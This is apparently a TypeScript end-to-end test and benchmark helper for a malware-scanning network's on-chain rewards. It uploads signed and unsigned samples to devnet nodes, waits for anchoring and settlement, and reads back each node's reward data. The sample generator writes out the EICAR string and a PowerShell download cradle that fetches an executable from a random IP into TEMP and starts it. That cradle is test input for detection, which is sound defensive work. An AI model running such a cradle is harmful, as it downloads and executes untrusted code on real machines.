// The issue-16 rewards run on a devnet, shared by rewards.e2e.test.ts (a few submissions) and
// bench/rewards-devnet.ts (the 200): signed submissions from several wallets, a couple of
// unsigned ones and EICAR, through the members' APIs; each epoch every member computes is read back
// from every member's GET /api/virusmap/rewards so the caller can compare them byte for byte.
import { createHash, randomBytes } from 'node:crypto'
import { readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { Contract, parseEther, Wallet } from 'ethers'
import { decryptKeystore, encryptKeystore } from '#governance/index.ts'
import { depositsArtifact, vmtArtifact } from '#governance/artifacts.ts'
import { blockNumber, mineBlocks, setBalance } from '#governance/anvil-time.ts'
import { runCli } from '../../src/cli/run.ts'
import { signSubmission } from '#protocol/index.ts'
import { DEFAULT_REWARD_PARAMS } from '#protocol/rewards/index.ts'
import { createVtClient } from '../../src/client/vt-client.ts'
import { createRewardsChain } from '../../src/rewards/rewards-chain.ts'
import { depositRequired } from '../../src/rewards/deposit-required.ts'
import { DEVNET_EPOCH_BLOCKS, DEVNET_MAX_JOB_AGE_BLOCKS } from '../../src/devnet/devnet-plan.ts'
import { endEpoch } from './end-epoch.ts'
import type { AbortOptions } from '@libp2p/interface'
import type { Hex } from '#protocol/messages.ts'
import type { Devnet } from '../../src/devnet/devnet.ts'
import type { VtClient } from '../../src/client/vt-client.ts'

// EICAR's test string, assembled so this file is not itself a test virus
export const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')

export type SubmissionKind = 'cradle' | 'benign' | 'eicar'

export interface Submitted {
  index: number
  kind: SubmissionKind
  /** the signing wallet's address; undefined for an unsigned upload */
  submitter?: Hex
  sha256: Hex
  jobId: Hex
  status: string
}

export interface RewardsRun {
  /** wallet 0 is the devnet's demo submitter; the last `unfunded` have no submission deposit */
  wallets: Wallet[]
  submitted: Submitted[]
  /** the anchored epochs holding the run's jobs */
  anchoredEpochs: number[]
  /** the root RewardsDistributor settled, and its epoch */
  settled: { epoch: number, root: Hex }
  /** per member: GET /api/virusmap/rewards/{epoch} bodies, for each epoch from the first anchored to the settled one, as text */
  served: Array<Map<number, string>>
  /** wall-clock ms of each stage */
  ms: { submit: number, anchor: number, settle: number }
}

/** A PowerShell download cradle (YARA's and the heuristics' suspicious rules) padded with random text so each one is its own TLSH family. */
function cradle (): Uint8Array {
  const pad = randomBytes(1536).toString('base64')
  return new TextEncoder().encode(`powershell -NoProfile -Command "$c = New-Object Net.WebClient; $c.DownloadFile('http://${randomBytes(4).join('.')}/p.exe', \\"$env:TEMP\\p.exe\\"); Start-Process \\"$env:TEMP\\p.exe\\""\n# ${pad}\n`)
}

/**
 * What submission i is: the first EICAR (signed: it must earn nothing), the next two unsigned cradles
 * (they earn nothing for anyone), then cradles and benign files in turn, signed by wallet i mod W.
 */
export function planOf (i: number): { kind: SubmissionKind, signed: boolean, bytes: Uint8Array } {
  if (i === 0) return { kind: 'eicar', signed: true, bytes: new TextEncoder().encode(EICAR) }
  if (i <= 2) return { kind: 'cradle', signed: false, bytes: cradle() }
  return i % 3 === 0 ? { kind: 'benign', signed: true, bytes: randomBytes(2048) } : { kind: 'cradle', signed: true, bytes: cradle() }
}

const RETRIABLE = new Set([429, 503])

/** uploads once the node takes it: a refusal over the caps (429) or while admission is full (503) waits and tries again */
async function upload (client: VtClient, bytes: Uint8Array, signed: Parameters<VtClient['uploadFile']>[1], options: AbortOptions): Promise<string> {
  for (let pause = 250; ; pause = Math.min(4000, pause * 2)) {
    try {
      return (await client.uploadFile(bytes, { ...signed, signal: options.signal })).id
    } catch (err) {
      if (!RETRIABLE.has((err as { status?: number }).status ?? 0)) throw err
      await sleep(pause, undefined, { signal: options.signal })
    }
  }
}

async function getJson (url: string, apiKey: string, options: AbortOptions): Promise<{ status: number, text: string }> {
  const res = await fetch(url, { headers: { 'x-apikey': apiKey }, signal: options.signal })
  return { status: res.status, text: await res.text() }
}

/** the anchored epochs node `api` has seen and their jobs */
async function anchoredJobs (api: string, apiKey: string, options: AbortOptions): Promise<Map<number, Hex[]>> {
  const list = JSON.parse((await getJson(`${api}/api/virusmap/anchors?limit=100`, apiKey, options)).text) as { data?: Array<{ attributes: { epoch: number } }> }
  const out = new Map<number, Hex[]>()
  for (const e of list.data ?? []) {
    const one = JSON.parse((await getJson(`${api}/api/virusmap/anchors?epoch=${e.attributes.epoch}`, apiKey, options)).text) as { data?: { attributes: { job_ids: Hex[] | null } } }
    out.set(e.attributes.epoch, one.data?.attributes.job_ids ?? [])
  }
  return out
}

/** polls `probe` until it returns a value */
async function until<T> (probe: () => Promise<T | undefined>, what: string, options: AbortOptions & { everyMs?: number }): Promise<T> {
  for (;;) {
    const found = await probe()
    if (found !== undefined) return found
    if (options.signal?.aborted === true) throw new Error(`gave up waiting for ${what}`)
    await sleep(options.everyMs ?? 1000, undefined, { signal: options.signal }).catch(() => {})
  }
}

/**
 * The run's wallets: the devnet's demo submitter (its deposit as the devnet left it, topped up only when the run
 * signs more reports than it covers), then fresh wallets whose deposits the deployer locks for their reports
 * (SPEC 17 rule 0), and last `unfunded` fresh wallets with none.
 */
async function fundedWallets (devnet: Devnet, opts: { count: number, walletCount: number, unfunded?: number }, options: AbortOptions): Promise<Wallet[]> {
  const { info } = devnet
  const demo = info.submitter
  if (demo === undefined) throw new Error('the devnet has no demo submitter')
  const wallets = [await decryptKeystore(await readFile(demo.keystore, 'utf8'), demo.passphrase), ...Array.from({ length: opts.walletCount - 1 }, () => new Wallet(Wallet.createRandom().privateKey))]
  const funded = wallets.slice(0, wallets.length - (opts.unfunded ?? 0))
  const reports = new Map<string, bigint>()
  for (let i = 0; i < opts.count; i++) if (planOf(i).signed) { const w = (wallets[i % wallets.length] as Wallet).address; reports.set(w, (reports.get(w) ?? 0n) + 1n) }
  const per = await depositRequired(info.contracts.parameters, devnet.provider)
  const deployer = await devnet.provider.getSigner(0)
  const deposits = new Contract(info.contracts.deposits as string, depositsArtifact.abi, deployer)
  for (const w of funded) {
    const [deposited, requested] = await deposits.getFunction('totals')(w.address) as [bigint, bigint]
    const missing = (reports.get(w.address) ?? 0n) * per - (deposited - requested)
    if (missing <= 0n) continue
    await (await new Contract(info.contracts.vmt, vmtArtifact.abi, deployer).getFunction('approve')(info.contracts.deposits, missing) as { wait: () => Promise<unknown> }).wait()
    await (await deposits.getFunction('deposit')(w.address, missing) as { wait: () => Promise<unknown> }).wait()
    options.signal?.throwIfAborted()
  }
  return wallets
}

/**
 * Runs `count` submissions from `walletCount` wallets (see fundedWallets), through every member in turn,
 * `concurrency` at a time, to a settled root.
 */
export async function runRewards (devnet: Devnet, opts: { count: number, walletCount: number, unfunded?: number, concurrency: number, log?: (line: string) => void }, options: AbortOptions): Promise<RewardsRun> {
  const { info } = devnet
  const log = opts.log ?? (() => {})
  const clients = info.nodes.map((n) => createVtClient({ baseUrl: n.api, apiKey: info.apiKey }))
  const wallets = await fundedWallets(devnet, opts, options)
  const submitted: Submitted[] = []
  const t0 = performance.now()
  let next = 0
  await Promise.all(Array.from({ length: opts.concurrency }, async () => {
    for (let i = next++; i < opts.count; i = next++) {
      const plan = planOf(i)
      const client = clients[i % clients.length] as VtClient
      const sha256 = `0x${createHash('sha256').update(plan.bytes).digest('hex')}` as Hex
      const wallet = plan.signed ? wallets[i % wallets.length] as Wallet : undefined
      let signed: Parameters<VtClient['uploadFile']>[1]
      if (wallet !== undefined) {
        const submittedAt = Date.now()
        const signature = await signSubmission({ kind: 'file', sha256, context: '', submittedAt }, info.chainId, info.contracts.registry, wallet)
        signed = { filename: `r-${i}.bin`, signed: { sha256, submitter: wallet.address.toLowerCase(), submittedAt, signature, context: '' } }
      }
      const id = await upload(client, plan.bytes, signed ?? { filename: `r-${i}.bin` }, options)
      const done = await client.waitForAnalysis(id, { intervalMs: 1000, signal: options.signal })
      const jobId = String(done.data.attributes.virusmap?.job_id ?? id) as Hex
      submitted.push({ index: i, kind: plan.kind, ...(wallet === undefined ? {} : { submitter: wallet.address.toLowerCase() as Hex }), sha256, jobId, status: String(done.data.attributes.status) })
    }
  }))
  const submitMs = performance.now() - t0
  log(`rewards run: ${submitted.length} submissions ended in ${(submitMs / 1000).toFixed(1)} s`)

  // every job of the run anchored on chain, as node 0 saw it. The epoch holding the jobs is ended at once instead of
  // in up to 30 s; jobs a member did not hold final when it was proposed stay eligible, so once it is anchored
  // without them the next epoch is ended too
  const t1 = performance.now()
  const jobs = new Set(submitted.map((s) => s.jobId))
  let ended = await endEpoch(devnet.provider, DEVNET_EPOCH_BLOCKS, options)
  const anchoredEpochs = await until(async () => {
    const anchored = await anchoredJobs(info.nodes[0]?.api as string, info.apiKey, options)
    const held = new Set([...anchored.values()].flat())
    const epochs = [...anchored.entries()].filter(([, ids]) => ids.some((id) => jobs.has(id))).map(([e]) => e).toSorted((a, b) => a - b)
    if ([...jobs].every((id) => held.has(id))) return epochs
    if (anchored.has(ended)) ended = await endEpoch(devnet.provider, DEVNET_EPOCH_BLOCKS, options)
    return undefined
  }, 'the run\'s jobs to be anchored', { ...options, everyMs: 1000 })
  const anchorMs = performance.now() - t1
  log(`rewards run: anchored in epochs ${anchoredEpochs.join(', ')} after ${(anchorMs / 1000).toFixed(1)} s more`)

  // the epochs after the last anchored one hold no reports: mine past the block where ReportAnchors would still
  // take them, so they are final and empty now instead of in two minutes, and the run's reports are paid
  const lastPaid = (anchoredEpochs.at(-1) as number) + DEFAULT_REWARD_PARAMS.payDelayEpochs
  await mineBlocks(devnet.provider, (lastPaid + 2) * DEVNET_EPOCH_BLOCKS + DEVNET_MAX_JOB_AGE_BLOCKS - await devnet.provider.getBlockNumber(), options)
  const t2 = performance.now()
  const chain = createRewardsChain({ provider: devnet.provider, address: info.contracts.rewards as Hex })
  const settled = await until(async () => {
    const roots = await chain.roots(options)
    if (roots.settled !== undefined && roots.settled.epoch >= lastPaid) return { epoch: roots.settled.epoch, root: roots.settled.root }
    // the members posted the root with a quorum of their signatures: its challenge blocks are mined at once, not waited out
    if (roots.open !== undefined && !roots.open.frozen) await mineBlocks(devnet.provider, roots.open.claimableFrom - await blockNumber(devnet.provider, options), options)
    return undefined
  }, `a settled root of epoch ${lastPaid} or later`, { ...options, everyMs: 1000 })
  const settleMs = performance.now() - t2
  log(`rewards run: epoch ${settled.epoch}'s root settled ${(settleMs / 1000).toFixed(1)} s after the mining`)

  const served = await Promise.all(info.nodes.map(async (n) => {
    const bodies = new Map<number, string>()
    for (let epoch = anchoredEpochs[0] as number; epoch <= settled.epoch; epoch++) {
      bodies.set(epoch, await until(async () => {
        const r = await getJson(`${n.api}/api/virusmap/rewards/${epoch}?limit=1000`, info.apiKey, options)
        return r.status === 200 ? r.text : undefined
      }, `node ${n.index}'s rewards of epoch ${epoch}`, options))
    }
    return bodies
  }))
  return { wallets, submitted: submitted.toSorted((a, b) => a.index - b.index), anchoredEpochs, settled, served, ms: { submit: submitMs, anchor: anchorMs, settle: settleMs } }
}

/** what `account` holds in the settled root, as member `node` serves it */
export async function cumulativeOf (devnet: Devnet, node: number, epoch: number, account: string, options: AbortOptions): Promise<bigint> {
  const r = await getJson(`${devnet.info.nodes[node]?.api}/api/virusmap/rewards/${epoch}/${account}`, devnet.info.apiKey, options)
  return BigInt((JSON.parse(r.text) as { data: { attributes: { cumulative: string } } }).data.attributes.cumulative)
}

export interface Claimed {
  code: number
  /** `virusmap claim --json`'s answer */
  out: Record<string, unknown>
  /** the wallet's VMT before and after, wei */
  before: bigint
  after: bigint
}

/** `virusmap claim --keystore` for `wallet` in `dir` (its keystore written there, its gas funded), through member `node` */
export async function claimByCli (devnet: Devnet, dir: string, wallet: Wallet, node: number, options: AbortOptions): Promise<Claimed> {
  const passphrase = 'rewards-run'
  const keystore = join(dir, `claim-${wallet.address}.json`)
  await writeFile(keystore, await encryptKeystore(wallet, passphrase, { scryptN: 1024 }))
  await writeFile(join(dir, 'claim-deployment.json'), await readFile(join(dir, 'devnet.json')))
  await setBalance(devnet.provider, wallet.address, parseEther('1'), options)
  const vmt = new Contract(devnet.info.contracts.vmt, vmtArtifact.abi, devnet.provider)
  const balance = async (): Promise<bigint> => await vmt.getFunction('balanceOf')(wallet.address) as bigint
  const before = await balance()
  let stdout = ''
  const code = await runCli(['claim', '--keystore', keystore, '--deployment', 'claim-deployment.json', '--api', devnet.info.nodes[node]?.api as string, '--json'], {
    stdout: { write: (text: string) => { stdout += text } }, stderr: { write: () => {} }, signal: options.signal ?? AbortSignal.timeout(120_000), env: { VIRUSMAP_KEYSTORE_PASSWORD: passphrase }, cwd: dir
  })
  return { code, out: JSON.parse(stdout) as Record<string, unknown>, before, after: await balance() }
}
